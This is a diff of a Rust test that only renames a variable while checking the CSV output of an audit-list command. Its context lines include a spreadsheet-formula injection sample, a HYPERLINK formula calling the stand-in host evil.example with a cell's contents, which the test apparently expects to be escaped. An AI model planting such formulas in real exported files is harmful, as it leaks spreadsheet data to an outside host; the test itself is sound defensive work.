@@ -204,10 +204,10 @@ async fn the_client_prints_lists_numbers_and_dossiers() {
 
     let csv = audrey.ok(&["audit", "list", "--text", "evil", "--output", "csv"]);
     let mut reader = csv::Reader::from_reader(csv.as_bytes());
-    let head = reader.headers().unwrap().clone();
+    let columns = reader.headers().unwrap().clone();
     let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
     assert_eq!(rows.len(), 1);
-    let cell = |name: &str| rows[0][head.iter().position(|column| column == name).unwrap()].to_owned();
+    let cell = |name: &str| rows[0][columns.iter().position(|column| column == name).unwrap()].to_owned();
     assert_eq!((cell("exception"), cell("denied_by")), (id(&denied), format!("olivia-{}", world.name)));
     assert_eq!(cell("reason"), "'=HYPERLINK(\"http://evil.example/\"&A1);' -1 and more");
     assert_eq!(cell("statements"), "'@not like this");
